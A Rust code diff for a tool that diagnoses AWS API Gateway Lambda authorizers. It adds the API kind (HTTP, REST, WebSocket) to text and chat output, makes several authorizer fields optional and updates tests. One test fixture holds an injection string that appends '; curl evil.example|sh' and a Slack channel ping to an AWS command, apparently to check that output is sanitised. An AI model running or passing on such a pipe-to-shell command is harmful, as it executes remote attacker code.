@@ -453,9 +453,11 @@ fn trim_diagnosis(d: &Diagnosis, limits: Limits) -> Diagnosis {
         },
         Diagnosis::Checked {
             api_id,
+            api_kind,
             authorizers,
         } => Diagnosis::Checked {
             api_id: cut(api_id),
+            api_kind: *api_kind,
             authorizers: authorizers
                 .iter()
                 .take(limits.items)
@@ -471,7 +473,8 @@ fn trim_diagnosis(d: &Diagnosis, limits: Limits) -> Diagnosis {
                     function_arn: a.function_arn.as_deref().map(cut),
                     credentials_arn: a.credentials_arn.as_deref().map(cut),
                     simple_responses: a.simple_responses,
-                    payload_format_version: cut(&a.payload_format_version),
+                    payload_format_version: a.payload_format_version.as_deref().map(cut),
+                    identity_source: a.identity_source.as_deref().map(cut),
                     checks: a
                         .checks
                         .iter()
@@ -904,16 +907,23 @@ pub fn diagnosis_text(d: &Diagnosis) -> String {
         }
         Diagnosis::Checked {
             api_id,
+            api_kind,
             authorizers,
         } if authorizers.is_empty() => format!(
-            "Diagnosis (API {}, live configuration): no route of the API uses a Lambda authorizer.\n",
+            "Diagnosis ({} {}, live configuration): no route of the API uses a Lambda authorizer.\n",
+            api_kind.title(),
             visible(api_id)
         ),
         Diagnosis::Checked {
             api_id,
+            api_kind,
             authorizers,
         } => {
-            let mut t = format!("Diagnosis (API {}, live configuration):\n", visible(api_id));
+            let mut t = format!(
+                "Diagnosis ({} {}, live configuration):\n",
+                api_kind.title(),
+                visible(api_id)
+            );
             for a in authorizers {
                 t.push_str(&format!(
                     "  route {} -> authorizer {} ({}) -> function {}\n",
@@ -942,9 +952,14 @@ fn diagnosis_chat(d: &Diagnosis) -> String {
         }
         Diagnosis::Checked {
             api_id,
+            api_kind,
             authorizers,
         } => {
-            let mut t = format!("• *Diagnosis* (API {}):\n", chat_code(api_id));
+            let mut t = format!(
+                "• *Diagnosis* ({} {}):\n",
+                api_kind.title(),
+                chat_code(api_id)
+            );
             for a in authorizers {
                 t.push_str(&format!(
                     "  {} → authorizer {} ({}) → {}\n",
@@ -1460,6 +1475,44 @@ mod tests {
     }
 
     #[test]
+    fn the_diagnosis_names_the_kind_of_api() {
+        use crate::diagnose::ApiKind;
+        for (kind, text, chat) in [
+            (
+                ApiKind::Http,
+                "Diagnosis (API a1b2c3, ",
+                "• *Diagnosis* (API `a1b2c3`)",
+            ),
+            (
+                ApiKind::Rest,
+                "Diagnosis (REST API a1b2c3, ",
+                "• *Diagnosis* (REST API `a1b2c3`)",
+            ),
+            (
+                ApiKind::WebSocket,
+                "Diagnosis (WebSocket API a1b2c3, ",
+                "• *Diagnosis* (WebSocket API `a1b2c3`)",
+            ),
+        ] {
+            let d = Diagnosis::Checked {
+                api_id: "a1b2c3".into(),
+                api_kind: kind,
+                authorizers: Vec::new(),
+            };
+            assert!(
+                diagnosis_text(&d).starts_with(text),
+                "{}",
+                diagnosis_text(&d)
+            );
+            assert!(
+                diagnosis_chat(&d).starts_with(chat),
+                "{}",
+                diagnosis_chat(&d)
+            );
+        }
+    }
+
+    #[test]
     fn diagnosis_commands_are_shown_only_in_their_shape() {
         use crate::diagnose::{AuthorizerReport, Check};
         let mut g = group(&[finding(Cause::MissingInvokePermission, "/g", "r", 1)], 5).remove(0);
@@ -1467,14 +1520,16 @@ mod tests {
             "aws lambda add-permission --function-name f; curl evil.example|sh\n```<!channel>";
         g.diagnosis = Some(Diagnosis::Checked {
             api_id: "a1b2c3".into(),
+            api_kind: crate::diagnose::ApiKind::Http,
             authorizers: vec![AuthorizerReport {
                 authorizer_id: "abc123".into(),
                 name: "n".into(),
                 routes: vec!["GET /x".into()],
                 function_arn: None,
                 credentials_arn: None,
-                simple_responses: true,
-                payload_format_version: "2.0".into(),
+                simple_responses: Some(true),
+                payload_format_version: Some("2.0".into()),
+                identity_source: None,
                 checks: vec![Check {
                     ok: false,
                     summary: "s".into(),
@@ -1510,6 +1565,7 @@ mod tests {
         g.api_ids.push(value.to_owned());
         g.diagnosis = Some(Diagnosis::Checked {
             api_id: value.into(),
+            api_kind: crate::diagnose::ApiKind::Rest,
             authorizers: vec![
                 crate::diagnose::AuthorizerReport {
                     authorizer_id: value.into(),
@@ -1517,8 +1573,9 @@ mod tests {
                     routes: vec![value.into(); 3],
                     function_arn: Some(value.into()),
                     credentials_arn: Some(value.into()),
-                    simple_responses: true,
-                    payload_format_version: value.into(),
+                    simple_responses: Some(true),
+                    payload_format_version: Some(value.into()),
+                    identity_source: Some(value.into()),
                     checks: vec![
                         crate::diagnose::Check {
                             ok: false,
